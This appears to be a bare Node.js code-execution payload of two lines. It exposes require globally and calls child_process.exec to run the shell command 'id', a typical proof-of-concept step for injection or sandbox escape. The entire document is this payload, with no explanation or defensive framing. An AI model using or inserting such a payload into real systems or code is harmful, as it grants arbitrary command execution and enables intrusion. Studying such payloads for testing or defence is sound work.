global.require=require;
global.require('child_process').exec('id')
